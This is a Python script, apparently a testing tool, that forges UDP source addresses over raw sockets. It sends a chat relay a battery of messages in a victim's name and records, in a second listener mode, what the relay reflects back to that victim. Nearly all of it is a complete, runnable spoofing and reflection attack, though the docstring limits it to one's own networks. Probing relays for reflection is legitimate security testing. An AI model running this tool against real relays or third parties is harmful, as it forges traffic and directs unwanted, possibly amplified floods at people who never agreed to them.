"""Somebody who sends to a relay in the name of another address, and that address. Only for networks of one's own.

    python3 relay_spoof.py victim ADDRESS PORT                 prints `came PORT SECONDS LENGTH TEXT` of each datagram
    python3 relay_spoof.py attack RELAY PORT ADDRESS PORT      needs root; a port of the victim for each kind

The attacker is a member itself, and has a code and a cookie of its own: it knows everything except what the relay
sends to the victim.
"""
import os
import select
import socket
import struct
import sys
import time

PORTS = 64
ROUNDS = 100
MAGIC = b"\xff\x71\x01"


def victim(address, first):
    ears = []
    for port in range(first, first + PORTS):
        ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ear.bind((address, port))
        ears.append(ear)
    print("ready", first, flush=True)
    while True:
        for ear in select.select(ears + [sys.stdin], [], [])[0]:
            if ear is sys.stdin:
                return
            data = ear.recv(65535)
            print("came", ear.getsockname()[1], time.monotonic(), len(data), ascii(data), flush=True)


def frame(kind, *fields):
    return MAGIC + kind + b"".join(fields)


def padded(kind, *fields):
    return frame(kind, *fields).ljust(28, b"\0")


def number(value):
    return struct.pack("!Q", value)


def short(text):
    return bytes([len(text)]) + text


def join(cookie, token=0):
    return frame(b"J", number(7), cookie, number(1), number(token), short(b"mallory"), short(b"lobby"))


def ask(relay, question, kind):
    """A socket, and the answer to what it asked that begins in this way or has a line that does."""
    mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    mouth.settimeout(0.5)
    for _ in range(20):
        mouth.sendto(question, relay)
        try:
            answer = mouth.recv(65535)
        except socket.timeout:
            continue
        for line in [answer] + answer.splitlines():
            if line.startswith(kind):
                return mouth, line
    sys.exit("the relay does not answer")


def membership(relay):
    """Cookie and token of the attacker's own."""
    mouth, challenge = ask(relay, frame(b"H", number(7), bytes(52)), MAGIC + b"c")
    cookie = challenge[12:28]
    mouth.sendto(join(cookie), relay)
    while True:
        answer = mouth.recv(65535)
        if answer.startswith(MAGIC + b"w"):
            return cookie, struct.unpack("!Q", answer[12:20])[0]


def kinds(relay):
    proof = ask(relay, b"hello, is there a relay?", b"/prove ")[1]
    cookie, token = membership(relay)
    words = [b"", b"?", b"hello", b"hello, is there a relay?", b"x" * 1000, b"* You are mallory, in lobby", b"\xff"]
    words += [b"/join lobby", b"/nick mallory", b"/who", b"/rooms", b"/help", b"/ping", b"/leave", b"a\n/ping"]
    words += [proof, proof + b"\n", b"/prove 000000", b"/prove", b"hello\n" + proof]
    hello = frame(b"H", number(7), bytes(52))
    frames = [hello, hello + bytes(400), frame(b"H", number(7)), join(cookie), join(cookie, token), join(bytes(16))]
    for mine in (0, token):
        frames += [padded(b"S", number(mine), b"\0\0\0\1\0\0\0\0\0\4said"), padded(b"P", number(mine)), frame(b"L", number(mine))]
        frames += [frame(b"N", number(mine), bytes(14)), frame(b"M", number(mine), bytes(4))]
        frames += [frame(b"K", number(mine), short(b"mallory"))]
    frames += [MAGIC, frame(b"w", bytes(40))]
    return words + frames


def attack(relay, address, first):
    mouth = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    there, here = socket.inet_aton(relay[0]), socket.inet_aton(address)
    # The kernel fills in what is 0 here: length, number and checksum.
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, here, there)

    def send(port, data):
        mouth.sendto(head + struct.pack("!HHHH", port, relay[1], 8 + len(data), 0) + data, (relay[0], 0))
        sent[port] = sent.get(port, 0) + len(data)

    sent = {}
    every = kinds(relay)
    assert len(every) < PORTS
    for turn in range(ROUNDS):
        for offset, data in enumerate(every):
            send(first + offset, data)
        # And a port that says everything in turn.
        send(first + len(every), every[turn % len(every)])
        send(first + len(every), b"/prove " + os.urandom(3).hex().upper().encode())
        time.sleep(0.05)
    for port, length in sent.items():
        print("sent", port, length, flush=True)
    print("done", flush=True)


if sys.argv[1] == "victim":
    victim(sys.argv[2], int(sys.argv[3]))
else:
    attack((sys.argv[2], int(sys.argv[3])), sys.argv[4], int(sys.argv[5]))
